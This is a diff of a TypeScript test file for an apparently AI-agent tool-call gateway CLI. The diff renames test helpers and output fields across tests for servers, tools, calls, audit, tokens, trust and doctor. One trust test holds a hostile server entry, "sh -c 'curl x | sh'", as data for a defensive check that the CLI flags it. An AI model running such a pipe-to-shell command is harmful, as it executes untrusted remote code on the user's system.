@@ -3,195 +3,202 @@ import { createServer } from 'node:http'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { promise } from '../../../../../tests/promises.ts'
-import { cli, type Place, place, scratchFolder } from '../cli.test-kit.ts'
+import { cli, createTestHome, scratchFolder, type TestHome } from '../cli.test-kit.ts'
 
 describe('servers', () => {
   it('shows each server with its state, and why one is not ready', async () => {
-    const { exit, out } = await cli(['servers'], { at: place() })
+    const { exit, stdout } = await cli(['servers'], { at: createTestHome() })
     expect(exit).toBe(0)
-    expect(out).toMatch(/^NAME +KIND +STATE +TOOLS +RESTARTS +SINCE +REASON$/m)
-    expect(out).toMatch(/^clock +stdio +ready +3 +0/m)
-    expect(out).toMatch(/^missing +stdio +(restarting|broken) .*no program sallyport-no-such-program/m)
+    expect(stdout).toMatch(/^NAME +KIND +STATE +TOOLS +RESTARTS +SINCE +REASON$/m)
+    expect(stdout).toMatch(/^clock +stdio +ready +3 +0/m)
+    expect(stdout).toMatch(/^missing +stdio +(restarting|broken) .*no program sallyport-no-such-program/m)
   })
 
   it('shows one with its entry, but not the values of its variables', async () => {
-    const { exit, out } = await cli(['servers', 'missing'], { at: place() })
+    const { exit, stdout } = await cli(['servers', 'missing'], { at: createTestHome() })
     expect(exit).toBe(0)
-    expect(out).toMatch(/^env +KEY$/m)
-    expect(out).toMatch(/^entry +.*config.yaml:\d+$/m)
-    expect(out).not.toContain('hidden-value')
+    expect(stdout).toMatch(/^env +KEY$/m)
+    expect(stdout).toMatch(/^entry +.*config.yaml:\d+$/m)
+    expect(stdout).not.toContain('hidden-value')
   })
 
   it('exits with 3 for one that is not there', async () => {
-    const { exit, words } = await cli(['servers', 'clok'], { at: place() })
-    expect({ exit, words }).toEqual({ exit: 3, words: expect.stringContaining('Did you mean "clock"?') })
+    const { exit, stderr } = await cli(['servers', 'clok'], { at: createTestHome() })
+    expect({ exit, stderr: stderr }).toEqual({ exit: 3, stderr: expect.stringContaining('Did you mean "clock"?') })
   })
 })
 
 describe('tools', () => {
   it('lists them, and says which are not offered and why', async () => {
-    const { exit, out } = await cli(['tools', '--server', 'clock'], { at: place() })
+    const { exit, stdout } = await cli(['tools', '--server', 'clock'], { at: createTestHome() })
     expect(exit).toBe(0)
-    expect(out).toMatch(/^clock\/countdown +medium +no .* yes +clock_countdown +tools\.yaml/m)
-    expect(out).toMatch(/^clock\/convert_time +medium .* no: .*does not include.* clock_convert_time/m)
-    expect(out).not.toContain('sallyport/')
+    expect(stdout).toMatch(/^clock\/countdown +medium +no .* yes +clock_countdown +tools\.yaml/m)
+    expect(stdout).toMatch(/^clock\/convert_time +medium .* no: .*does not include.* clock_convert_time/m)
+    expect(stdout).not.toContain('sallyport/')
   })
 
   it('lists those of the servers that can be asked, and says of the others why they cannot', async () => {
-    const { exit, words } = await cli(['tools'], { at: place() })
+    const { exit, stderr } = await cli(['tools'], { at: createTestHome() })
     expect(exit).toBe(0)
-    expect(words).toMatch(/^! missing is \w+: .*sallyport-no-such-program.*[^.]\. What it offers now is not known\.$/m)
-    expect((await cli(['tools', '--server', 'clock'], { at: place() })).words).not.toContain('missing')
+    expect(stderr).toMatch(/^! missing is \w+: .*sallyport-no-such-program.*[^.]\. What it offers now is not known\.$/m)
+    expect((await cli(['tools', '--server', 'clock'], { at: createTestHome() })).stderr).not.toContain('missing')
   })
 
   it('narrows the list with names and globs, and fails when one matches nothing', async () => {
-    const at = place()
+    const at = createTestHome()
     const some = await cli(['tools', 'clock/c*time', 'read_file', '--json'], { at })
-    const names = JSON.parse(some.out).tools.map((tool: { canonical: string }) => tool.canonical)
+    const names = JSON.parse(some.stdout).tools.map((tool: { canonical: string }) => tool.canonical)
     expect(names.toSorted()).toEqual([
       'mcp__clock__convert_time',
       'mcp__clock__current_time',
       'mcp__sallyport__read_file',
     ])
     const slip = await cli(['tools', 'shwo', 'x'], { at })
-    expect(slip).toMatchObject({ exit: 3, out: '', words: expect.stringContaining('`sallyport tools show`') })
+    expect(slip).toMatchObject({ exit: 3, stdout: '', stderr: expect.stringContaining('`sallyport tools show`') })
   })
 
   it('shows one with what it takes', async () => {
-    const { exit, out } = await cli(['tools', 'show', 'countdown'], { at: place() })
+    const { exit, stdout } = await cli(['tools', 'show', 'countdown'], { at: createTestHome() })
     expect(exit).toBe(0)
-    expect(out).toMatch(/^tool +clock\/countdown$/m)
-    expect(out).toMatch(/^takes +seconds \(\w+, required\)/m)
+    expect(stdout).toMatch(/^tool +clock\/countdown$/m)
+    expect(stdout).toMatch(/^takes +seconds \(\w+, required\)/m)
   })
 
   it(`counts what those that are offered cost, the dearest first, and says that it is an estimate (${promise('AG-19')})`, async () => {
-    const at = place()
-    const { exit, out, words } = await cli(['tools', 'cost'], { at })
+    const at = createTestHome()
+    const { exit, stdout, stderr } = await cli(['tools', 'cost'], { at })
     expect(exit).toBe(0)
-    expect(words).toMatch(/About \d+ tokens in every turn .* an estimate\./)
-    expect(out).not.toContain('convert_time')
+    expect(stderr).toMatch(/About \d+ tokens in every turn .* an estimate\./)
+    expect(stdout).not.toContain('convert_time')
     const { tokens, tools, byServer, byTool, estimate } = JSON.parse(
-      (await cli(['tools', 'cost', '--json'], { at })).out,
+      (await cli(['tools', 'cost', '--json'], { at })).stdout,
     )
-    expect(out).toMatch(new RegExp(`^all +${tools} +${tokens} +100 %$`, 'm'))
+    expect(stdout).toMatch(new RegExp(`^all +${tools} +${tokens} +100 %$`, 'm'))
     expect(estimate).toBe(true)
     const prices: number[] = byTool.map((tool: { tokens: number }) => tool.tokens)
     expect(prices).toEqual(prices.toSorted((a, b) => b - a))
     expect(prices.reduce((sum, one) => sum + one, 0)).toBe(tokens)
     expect(byServer.reduce((sum: number, one: { tokens: number }) => sum + one.tokens, 0)).toBe(tokens)
     const one = await cli(['tools', 'cost', '--server', 'clock', '--json'], { at })
-    expect(JSON.parse(one.out)).toMatchObject({ tools: 2, byServer: [{ server: 'clock', tools: 2 }] })
-    expect(await cli(['tools', 'cost', '--server', 'clok'], { at })).toMatchObject({ exit: 3, out: '' })
+    expect(JSON.parse(one.stdout)).toMatchObject({ tools: 2, byServer: [{ server: 'clock', tools: 2 }] })
+    expect(await cli(['tools', 'cost', '--server', 'clok'], { at })).toMatchObject({ exit: 3, stdout: '' })
   })
 
   it(`counts what each profile costs, and what one of them selects (${promise('AG-19')})`, async () => {
-    const at = place()
+    const at = createTestHome()
     const profiles = { DEFAULT: {}, CLOCK: { selected_mcp_tools: ['clock', '!clock/countdown'], token_budget: 5 } }
     writeFileSync(join(at.home, 'profiles.json'), JSON.stringify({ executors: { CODEX: profiles } }))
-    const { tokens, tools, byProfile } = JSON.parse((await cli(['tools', 'cost', '--json'], { at })).out)
+    const { tokens, tools, byProfile } = JSON.parse((await cli(['tools', 'cost', '--json'], { at })).stdout)
     expect(byProfile).toEqual([
       { profile: 'codex.default', tools, tokens },
       { profile: 'codex.clock', tools: 1, tokens: expect.any(Number), tokenBudget: 5 },
     ])
-    const one = JSON.parse((await cli(['tools', 'cost', '--profile', 'codex.clock', '--json'], { at })).out)
+    const one = JSON.parse((await cli(['tools', 'cost', '--profile', 'codex.clock', '--json'], { at })).stdout)
     expect(one).toMatchObject({ tools: 1, tokens: byProfile[1].tokens, byTool: [{ tool: 'current_time' }] })
-    expect((await cli(['tools', 'cost'], { at })).out).toMatch(/^codex\.clock +1 +\d+ +\d+ % +5$/m)
-    expect(await cli(['tools', 'cost', '--profile', 'codex.clok'], { at })).toMatchObject({ exit: 3, out: '' })
+    expect((await cli(['tools', 'cost'], { at })).stdout).toMatch(/^codex\.clock +1 +\d+ +\d+ % +5$/m)
+    expect(await cli(['tools', 'cost', '--profile', 'codex.clok'], { at })).toMatchObject({ exit: 3, stdout: '' })
   })
 })
 
 describe('call', () => {
   it('prints the text of the answer on stdout and nothing else', async () => {
-    const { exit, out, words } = await cli(['call', 'clock/current_time', '--args', '{"zone":"UTC"}'], { at: place() })
-    expect({ exit, words: words.replace(/^!.*\n/gm, '') }).toEqual({ exit: 0, words: '' })
-    expect(JSON.parse(out)).toMatchObject({ zone: 'UTC' })
+    const { exit, stdout, stderr } = await cli(['call', 'clock/current_time', '--args', '{"zone":"UTC"}'], {
+      at: createTestHome(),
+    })
+    expect({ exit, stderr: stderr.replace(/^!.*\n/gm, '') }).toEqual({ exit: 0, stderr: '' })
+    expect(JSON.parse(stdout)).toMatchObject({ zone: 'UTC' })
   })
 
   it('reads arguments from stdin', async () => {
-    const at = place()
-    const { exit, out } = await cli(['call', 'current_time', '--args', '-'], { at, stdin: '{"zone":"Asia/Tokyo"}' })
+    const at = createTestHome()
+    const { exit, stdout } = await cli(['call', 'current_time', '--args', '-'], { at, stdin: '{"zone":"Asia/Tokyo"}' })
     expect(exit).toBe(0)
-    expect(JSON.parse(out)).toMatchObject({ zone: 'Asia/Tokyo' })
+    expect(JSON.parse(stdout)).toMatchObject({ zone: 'Asia/Tokyo' })
   })
 
   it('exits with 1 when the tool reports an error, whose text is still the data', async () => {
-    const { exit, out } = await cli(['call', 'current_time', '--args', '{"zone":"Atlantis"}'], { at: place() })
+    const { exit, stdout } = await cli(['call', 'current_time', '--args', '{"zone":"Atlantis"}'], {
+      at: createTestHome(),
+    })
     expect(exit).toBe(1)
-    expect(out).toMatch(/Atlantis/)
+    expect(stdout).toMatch(/Atlantis/)
   })
 
   it('exits with 4 when it is refused, and names the rule', async () => {
-    const at = place()
-    const { exit, out, words } = await cli(['call', 'convert_time'], { at })
-    expect({ exit, out }).toEqual({ exit: 4, out: '' })
-    expect(words).toMatch(/✗ CALL_DENIED .*\(.*config\.yaml:\d+\)/)
+    const at = createTestHome()
+    const { exit, stdout, stderr } = await cli(['call', 'convert_time'], { at })
+    expect({ exit, stdout: stdout }).toEqual({ exit: 4, stdout: '' })
+    expect(stderr).toMatch(/✗ CALL_DENIED .*\(.*config\.yaml:\d+\)/)
     const asJson = await cli(['call', 'convert_time', '--json'], { at })
     expect(asJson.exit).toBe(4)
-    expect(JSON.parse(asJson.out)).toMatchObject({ outcome: 'deny', error: { code: 'CALL_DENIED' } })
+    expect(JSON.parse(asJson.stdout)).toMatchObject({ outcome: 'deny', error: { code: 'CALL_DENIED' } })
   })
 
   it('exits with 3 for an unknown tool and says which was meant', async () => {
-    const { exit, words } = await cli(['call', 'clock/countdwn'], { at: place() })
-    expect({ exit, words }).toMatchObject({ exit: 3, words: expect.stringContaining('Did you mean') })
+    const { exit, stderr } = await cli(['call', 'clock/countdwn'], { at: createTestHome() })
+    expect({ exit, stderr: stderr }).toMatchObject({ exit: 3, stderr: expect.stringContaining('Did you mean') })
   })
 
   it('exits with 2 for arguments that are no object, without repeating them', async () => {
-    const at = place()
+    const at = createTestHome()
     for (const args of ['{"secret":"s3cr3t"', '[]', '1', '']) {
-      const { exit, words } = await cli(['call', 'countdown', '--args', args], { at })
+      const { exit, stderr } = await cli(['call', 'countdown', '--args', args], { at })
       expect({ args, exit }).toEqual({ args, exit: 2 })
-      expect(words).not.toContain('s3cr3t')
+      expect(stderr).not.toContain('s3cr3t')
     }
   })
 
   it('exits with 2 for arguments on stdin that are not UTF-8, which would change on their way', async () => {
     const stdin = Buffer.from([...Buffer.from('{"zone":"'), 0xff, ...Buffer.from('"}')])
-    const { exit, words } = await cli(['call', 'current_time', '--args', '-'], { at: place(), stdin })
-    expect({ exit, words }).toEqual({ exit: 2, words: expect.stringContaining('UTF-8') })
+    const { exit, stderr } = await cli(['call', 'current_time', '--args', '-'], { at: createTestHome(), stdin })
+    expect({ exit, stderr: stderr }).toEqual({ exit: 2, stderr: expect.stringContaining('UTF-8') })
   })
 
   it('does not let a number change on its way: one that cannot be kept is refused', async () => {
     const args = ['call', 'countdown', '--args', '{"seconds":9007199254740993}']
-    expect(await cli(args, { at: place() })).toMatchObject({ exit: 2, words: expect.stringContaining('exact') })
+    expect(await cli(args, { at: createTestHome() })).toMatchObject({
+      exit: 2,
+      stderr: expect.stringContaining('exact'),
+    })
   })
 
   it('with --dry-run shows each step, calls nothing and records nothing', async () => {
-    const at = place()
+    const at = createTestHome()
     const allowed = await cli(['call', 'countdown', '--args', '{"seconds":1}', '--dry-run'], { at })
-    expect(allowed).toMatchObject({ exit: 0, out: expect.stringMatching(/^allow +select$/m) })
+    expect(allowed).toMatchObject({ exit: 0, stdout: expect.stringMatching(/^allow +select$/m) })
     const refused = await cli(['call', 'convert_time', '--dry-run'], { at })
     expect(refused).toMatchObject({
       exit: 4,
-      out: expect.stringMatching(/^deny +select: .*\nrule +.*config.yaml:\d+$/m),
+      stdout: expect.stringMatching(/^deny +select: .*\nrule +.*config.yaml:\d+$/m),
     })
     writeFileSync(join(at.home, 'tools.yaml'), 'tools:\n  clock/countdown: { requires_approval: true }\n')
     const asking = await cli(['call', 'countdown', '--args', '{"seconds":1}', '--dry-run'], { at })
-    expect(asking).toMatchObject({ exit: 4, words: 'It would wait until somebody approves it.\n' })
+    expect(asking).toMatchObject({ exit: 4, stderr: 'It would wait until somebody approves it.\n' })
     const calls = await cli(['audit', '--type', 'TOOL_CALL_STARTED,POLICY_DENIED', '--json'], { at })
-    expect(calls.out).toBe('')
+    expect(calls.stdout).toBe('')
   })
 
   it('exits with 5 after its --timeout and cancels the call', async () => {
-    const at = place()
+    const at = createTestHome()
     const late = await cli(['call', 'countdown', '--args', '{"seconds":30}', '--timeout', '200ms'], { at })
-    expect(late).toMatchObject({ exit: 5, words: expect.stringContaining('200 ms') })
-    expect((await cli(['audit', '--verdict', 'failed', '--json'], { at })).out).toContain('"CALL_CANCELLED"')
+    expect(late).toMatchObject({ exit: 5, stderr: expect.stringContaining('200 ms') })
+    expect((await cli(['audit', '--verdict', 'failed', '--json'], { at })).stdout).toContain('"CALL_CANCELLED"')
   })
 
   it('exits with 130 when it is interrupted, and cancels the call', async () => {
-    const at = place()
+    const at = createTestHome()
     const interruption = new AbortController()
     const { SallyportError } = await import('@sallyport/core')
     const running = cli(['call', 'countdown', '--args', '{"seconds":30}'], { at, signal: interruption.signal })
     await recorded(at, 'TOOL_CALL_STARTED')
     interruption.abort(new SallyportError('CALL_CANCELLED', 'Interrupted.'))
-    expect(await running).toMatchObject({ exit: 130, out: '' })
-    expect((await cli(['audit', '--type', 'TOOL_CALL_FAILED', '--json'], { at })).out).toContain('"CALL_CANCELLED"')
+    expect(await running).toMatchObject({ exit: 130, stdout: '' })
+    expect((await cli(['audit', '--type', 'TOOL_CALL_FAILED', '--json'], { at })).stdout).toContain('"CALL_CANCELLED"')
   })
 })
 
 /** Resolves when the log of a state holds an event of a type. */
-async function recorded({ state }: Place, type: string): Promise<void> {
+async function recorded({ state }: TestHome, type: string): Promise<void> {
   const { readFile, readdir } = await import('node:fs/promises')
   const logs = join(state, 'logs')
   for (;;) {
@@ -204,34 +211,36 @@ async function recorded({ state }: Place, type: string): Promise<void> {
 
 describe('audit and explain', () => {
   it('tell what happened without starting any server', async () => {
-    const at = place()
+    const at = createTestHome()
     await cli(['call', 'current_time'], { at })
     await cli(['call', 'convert_time'], { at })
-    const starts = (await cli(['audit', '--type', 'GATEWAY_STARTED', '--json'], { at })).out.split('\n').length
+    const starts = (await cli(['audit', '--type', 'GATEWAY_STARTED', '--json'], { at })).stdout.split('\n').length
 
     const table = await cli(['audit'], { at })
-    expect(table.out).toMatch(/^TIME +EVENT +SUBJECT +AGENT +DETAIL +CALL$/m)
-    expect(table.out).toMatch(/POLICY_DENIED +mcp__clock__convert_time +any +CALL_DENIED: /)
+    expect(table.stdout).toMatch(/^TIME +EVENT +SUBJECT +AGENT +DETAIL +CALL$/m)
+    expect(table.stdout).toMatch(/POLICY_DENIED +mcp__clock__convert_time +any +CALL_DENIED: /)
 
     const denied = await cli(['audit', '--verdict', 'deny', '--json'], { at })
-    const event = JSON.parse(denied.out)
+    const event = JSON.parse(denied.stdout)
     expect(event).toMatchObject({ type: 'POLICY_DENIED', tool_name: 'mcp__clock__convert_time' })
 
     const why = await cli(['explain', event.call_id.slice(0, 8)], { at })
-    expect(why.out).toMatch(/^Refused: clock\/convert_time by any .*, by the step select \(CALL_DENIED\), and not sent/)
-    expect(why.out).toMatch(/✗ select .*\n +.*config\.yaml:3\n +clock: …\n/)
-    expect(why.out).toMatch(/^what to do +Change the rule/m)
-    expect((await cli(['audit', '--type', 'GATEWAY_STARTED', '--json'], { at })).out.split('\n').length).toBe(starts)
+    expect(why.stdout).toMatch(
+      /^Refused: clock\/convert_time by any .*, by the step select \(CALL_DENIED\), and not sent/,
+    )
+    expect(why.stdout).toMatch(/✗ select .*\n +.*config\.yaml:3\n +clock: …\n/)
+    expect(why.stdout).toMatch(/^what to do +Change the rule/m)
+    expect((await cli(['audit', '--type', 'GATEWAY_STARTED', '--json'], { at })).stdout.split('\n').length).toBe(starts)
   })
 
   it('keep the newest --limit of what matches, oldest first', async () => {
-    const at = place()
+    const at = createTestHome()
     for (const zone of ['UTC', 'Asia/Tokyo', 'Europe/Paris'])
       await cli(['call', 'current_time', '--args', JSON.stringify({ zone })], { at })
-    const { out } = await cli(['audit', '--verdict', 'allow', '--tool', 'mcp__clock__*', '--limit', '2', '--json'], {
+    const { stdout } = await cli(['audit', '--verdict', 'allow', '--tool', 'mcp__clock__*', '--limit', '2', '--json'], {
       at,
     })
-    const types = out
+    const types = stdout
       .trim()
       .split('\n')
       .map((line) => JSON.parse(line).type)
@@ -239,12 +248,12 @@ describe('audit and explain', () => {
   })
 
   it('find a tool by any of its names while no gateway runs', async () => {
-    const at = place()
+    const at = createTestHome()
     await cli(['call', 'countdown', '--args', '{"seconds":1}'], { at })
     await cli(['call', 'current_time'], { at })
     const found = async (tool: string): Promise<readonly string[]> => {
-      const { out } = await cli(['audit', '--tool', tool, '--type', 'TOOL_CALL_STARTED', '--json'], { at })
-      const lines = out.split('\n').filter(Boolean)
+      const { stdout } = await cli(['audit', '--tool', tool, '--type', 'TOOL_CALL_STARTED', '--json'], { at })
+      const lines = stdout.split('\n').filter(Boolean)
       return lines.map((line) => JSON.parse(line).tool_name)
     }
     for (const name of ['mcp__clock__countdown', 'clock/countdown', 'clock_countdown', 'countdown', 'clock/co*'])
@@ -254,40 +263,40 @@ describe('audit and explain', () => {
   })
 
   it('say it when there is nothing, with nothing on stdout', async () => {
-    const at = place()
-    expect(await cli(['audit'], { at })).toEqual({ exit: 0, out: '', words: 'Nothing of that kind is recorded.\n' })
+    const at = createTestHome()
+    expect(await cli(['audit'], { at })).toEqual({ exit: 0, stdout: '', stderr: 'Nothing of that kind is recorded.\n' })
     expect(await cli(['explain', 'abcdef'], { at })).toMatchObject({ exit: 3 })
   })
 })
 
 describe('token', () => {
   it('create prints the token alone; list and revoke know only its id', async () => {
-    const at = place()
+    const at = createTestHome()
     const created = await cli(['token', 'create', '--agent', 'codex', '--ttl', '1h'], { at })
-    expect(created).toMatchObject({ exit: 0, out: expect.stringMatching(/^spa_[\w-]{43}\n$/) })
-    expect(created.words).not.toContain(created.out.trim())
+    expect(created).toMatchObject({ exit: 0, stdout: expect.stringMatching(/^spa_[\w-]{43}\n$/) })
+    expect(created.stderr).not.toContain(created.stdout.trim())
 
     const list = await cli(['token', 'list', '--json'], { at })
-    expect(list.out).not.toContain(created.out.trim())
-    const [{ id, agent }] = JSON.parse(list.out).tokens
+    expect(list.stdout).not.toContain(created.stdout.trim())
+    const [{ id, agent }] = JSON.parse(list.stdout).tokens
     expect(agent).toBe('codex')
 
-    expect(await cli(['token', 'revoke', id], { at })).toMatchObject({ exit: 0, out: '' })
+    expect(await cli(['token', 'revoke', id], { at })).toMatchObject({ exit: 0, stdout: '' })
     expect(await cli(['token', 'revoke', id], { at })).toMatchObject({ exit: 3 })
-    const events = (await cli(['audit', '--json'], { at })).out
+    const events = (await cli(['audit', '--json'], { at })).stdout
     expect(events).toMatch(/TOKEN_MINTED[\s\S]*TOKEN_REVOKED/)
-    expect(events).not.toContain(created.out.trim())
+    expect(events).not.toContain(created.stdout.trim())
   })
 
   it('refuses a token where its id belongs, without repeating it', async () => {
-    const { exit, words } = await cli(['token', 'revoke', `spa_${'x'.repeat(43)}`], { at: place() })
+    const { exit, stderr } = await cli(['token', 'revoke', `spa_${'x'.repeat(43)}`], { at: createTestHome() })
     expect(exit).toBe(2)
-    expect(words).not.toContain('xxx')
+    expect(stderr).not.toContain('xxx')
   })
 })
 
 describe('trust', () => {
-  const project = (): Place & { readonly cwd: string } => {
+  const project = (): TestHome & { readonly cwd: string } => {
     const cwd = scratchFolder()
     mkdirSync(join(cwd, '.sallyport'))
     writeFileSync(
@@ -296,19 +305,19 @@ describe('trust', () => {
     )
     return { cwd, home: join(cwd, '.sallyport'), state: join(cwd, 'state') }
   }
-  const inside = ({ cwd, state }: Place & { cwd: string }) => ({ cwd, environment: { SALLYPORT_STATE: state } })
+  const inside = ({ cwd, state }: TestHome & { cwd: string }) => ({ cwd, environment: { SALLYPORT_STATE: state } })
 
   it('shows what would be started and refuses without a terminal', async () => {
     const at = project()
-    const { exit, words } = await cli(['trust'], inside(at))
+    const { exit, stderr } = await cli(['trust'], inside(at))
     expect(exit).toBe(4)
-    expect(words).toContain("evil: sh -c 'curl x | sh'")
-    expect(words).toContain('with TOKEN')
-    expect(words).toContain('far: https://example.com/mcp?…')
-    expect(words).not.toMatch(/abc|key=1/)
+    expect(stderr).toContain("evil: sh -c 'curl x | sh'")
+    expect(stderr).toContain('with TOKEN')
+    expect(stderr).toContain('far: https://example.com/mcp?…')
+    expect(stderr).not.toMatch(/abc|key=1/)
     expect(await cli(['tools'], inside(at))).toMatchObject({
       exit: 4,
-      words: expect.stringContaining('HOME_UNTRUSTED'),
+      stderr: expect.stringContaining('HOME_UNTRUSTED'),
     })
   })
 
@@ -317,38 +326,44 @@ describe('trust', () => {
     expect(await cli(['trust', '--yes'], inside(at))).toMatchObject({ exit: 0 })
     expect(await cli(['trust', '--json'], inside(at))).toMatchObject({
       exit: 0,
-      out: expect.stringContaining('"trust":"trusted"'),
+      stdout: expect.stringContaining('"trust":"trusted"'),
     })
     writeFileSync(join(at.home, 'tools.yaml'), '# more\n')
     expect(await cli(['trust'], inside(at))).toMatchObject({ exit: 4 })
   })
 
   it('says that a home of one’s own needs none', async () => {
-    expect(await cli(['trust'], { at: place() })).toMatchObject({ exit: 0, words: expect.stringContaining('your own') })
+    expect(await cli(['trust'], { at: createTestHome() })).toMatchObject({
+      exit: 0,
+      stderr: expect.stringContaining('your own'),
+    })
   })
 })
 
 describe('doctor', () => {
-  const free = (config = ''): Place => place(`gateway: { port: 1 }\n${config}`)
+  const free = (config = ''): TestHome => createTestHome(`gateway: { port: 1 }\n${config}`)
 
   it('finds what is wrong, says the fix, exits with 6 and starts nothing', async () => {
-    const at = place()
-    const { exit, out } = await cli(['doctor'], { at, environment: { SALLYPORT_HOEM: '/x' } })
+    const at = createTestHome()
+    const { exit, stdout } = await cli(['doctor'], { at, environment: { SALLYPORT_HOEM: '/x' } })
     expect(exit).toBe(6)
-    expect(out).toMatch(/^✓ node +Node /m)
-    expect(out).toMatch(/^✓ home +.*\(named by SALLYPORT_HOME\)$/m)
-    expect(out).toMatch(/^! environment +.*SALLYPORT_HOEM.*Did you mean "SALLYPORT_HOME"\?/m)
-    expect(out).toMatch(/^✗ server missing +There is no program sallyport-no-such-program.*\n +→ Install it/m)
-    expect(out).toMatch(/^✓ server clock/m)
+    expect(stdout).toMatch(/^✓ node +Node /m)
+    expect(stdout).toMatch(/^✓ home +.*\(named by SALLYPORT_HOME\)$/m)
+    expect(stdout).toMatch(/^! environment +.*SALLYPORT_HOEM.*Did you mean "SALLYPORT_HOME"\?/m)
+    expect(stdout).toMatch(/^✗ server missing +There is no program sallyport-no-such-program.*\n +→ Install it/m)
+    expect(stdout).toMatch(/^✓ server clock/m)
     expect(() => statSync(at.state)).toThrow()
   })
 
   it('passes over a folder of PATH that cannot be looked into', async () => {
     const loop = join(scratchFolder(), 'loop')
     symlinkSync(loop, loop)
-    const { exit, out } = await cli(['doctor'], { at: place(), environment: { PATH: `${loop}:${process.env.PATH}` } })
+    const { exit, stdout } = await cli(['doctor'], {
+      at: createTestHome(),
+      environment: { PATH: `${loop}:${process.env.PATH}` },
+    })
     expect(exit).toBe(6)
-    expect(out).toMatch(/^✗ server missing +There is no program/m)
+    expect(stdout).toMatch(/^✗ server missing +There is no program/m)
   })
 
   it.each([
@@ -362,19 +377,21 @@ describe('doctor', () => {
   ])('prints no value of a variable: %s', async (entry) => {
     const environment = { HIDDEN_VALUE: 'do-not-print-this' }
     for (const flags of [[], ['--json']]) {
-      const { out, words } = await cli(['doctor', ...flags], {
+      const { stdout, stderr } = await cli(['doctor', ...flags], {
         at: free(`mcp_servers: { a: { ${entry} } }\n`),
         environment,
       })
-      expect(out).not.toBe('')
-      expect(out + words).not.toContain('do-not-print')
+      expect(stdout).not.toBe('')
+      expect(stdout + stderr).not.toContain('do-not-print')
     }
   })
 
   it('shows a config that cannot be read, line by line', async () => {
-    const { exit, out } = await cli(['doctor', '--json'], { at: place('mcp_servers: { a: { comand: x } }\n') })
+    const { exit, stdout } = await cli(['doctor', '--json'], {
+      at: createTestHome('mcp_servers: { a: { comand: x } }\n'),
+    })
     expect(exit).toBe(6)
-    const checks: { name: string; level: string }[] = JSON.parse(out).checks
+    const checks: { name: string; level: string }[] = JSON.parse(stdout).checks
     expect(checks.find(({ name }) => name === 'config')).toMatchObject({
       level: 'wrong',
       finding: expect.stringContaining('config.yaml:1'),
@@ -384,14 +401,14 @@ describe('doctor', () => {
   it('does not say of a tools.yaml that cannot be read that there is none', async () => {
     const at = free()
     mkdirSync(join(at.home, 'tools.yaml'))
-    const { exit, out } = await cli(['doctor'], { at })
-    expect([exit, out]).toEqual([6, expect.stringMatching(/^✗ home +.*tools\.yaml is not a regular file/m)])
-    expect(out).not.toContain('There is no tools.yaml')
+    const { exit, stdout } = await cli(['doctor'], { at })
+    expect([exit, stdout]).toEqual([6, expect.stringMatching(/^✗ home +.*tools\.yaml is not a regular file/m)])
+    expect(stdout).not.toContain('There is no tools.yaml')
   })
 
   it('says that rules are only watched', async () => {
-    const { out } = await cli(['doctor'], { at: free('governance: { enforce: false }\n') })
-    expect(out).toMatch(/^! config +config\.yaml:2:15 governance\.enforce: rules are only watched/m)
+    const { stdout } = await cli(['doctor'], { at: free('governance: { enforce: false }\n') })
+    expect(stdout).toMatch(/^! config +config\.yaml:2:15 governance\.enforce: rules are only watched/m)
   })
 
   it('finds a token that others can read', async () => {
@@ -401,7 +418,7 @@ describe('doctor', () => {
     chmodSync(join(at.state, 'tokens', file ?? ''), 0o644)
     expect(await cli(['doctor'], { at })).toMatchObject({
       exit: 6,
-      out: expect.stringMatching(/^✗ tokens .*open to other users/m),
+      stdout: expect.stringMatching(/^✗ tokens .*open to other users/m),
     })
   })
 
@@ -409,17 +426,17 @@ describe('doctor', () => {
     const other = createServer()
     await new Promise<void>((resolve) => void other.listen(0, '127.0.0.1', resolve))
     const { port } = other.address() as { port: number }
-    const { out } = await cli(['doctor'], { at: place(`gateway: { port: ${port} }\n`) })
+    const { stdout } = await cli(['doctor'], { at: createTestHome(`gateway: { port: ${port} }\n`) })
     await new Promise((resolve) => other.close(resolve))
-    expect(out).toMatch(new RegExp(`^✗ port +127.0.0.1:${port} is taken`, 'm'))
+    expect(stdout).toMatch(new RegExp(`^✗ port +127.0.0.1:${port} is taken`, 'm'))
   })
 })
 
 it('ui exits with 5 when no gateway runs, and says what to start', async () => {
-  expect(await cli(['ui'], { at: place() })).toMatchObject({
+  expect(await cli(['ui'], { at: createTestHome() })).toMatchObject({
     exit: 5,
-    out: '',
-    words: expect.stringContaining('`sallyport serve`'),
+    stdout: '',
+    stderr: expect.stringContaining('`sallyport serve`'),
   })
 })
 
@@ -433,9 +450,9 @@ describe('where no gateway runs', () => {
     [['mode', 'ALERT'], /^! No gateway runs on the state STATE\. .* The next one there begins in ALERT\.$/m],
     [['panic'], /^! No gateway runs on the state STATE\. .* The next one there begins in LOCKDOWN\.$/m],
   ])('%j names the state that it looked at: the gateway that was meant may have another', async (args, told) => {
-    const at = place()
-    const { exit, words } = await cli(args, { at })
+    const at = createTestHome()
+    const { exit, stderr } = await cli(args, { at })
     expect(exit).toBe(0)
-    expect(words.replaceAll(at.state, 'STATE')).toMatch(told)
+    expect(stderr.replaceAll(at.state, 'STATE')).toMatch(told)
   })
 })
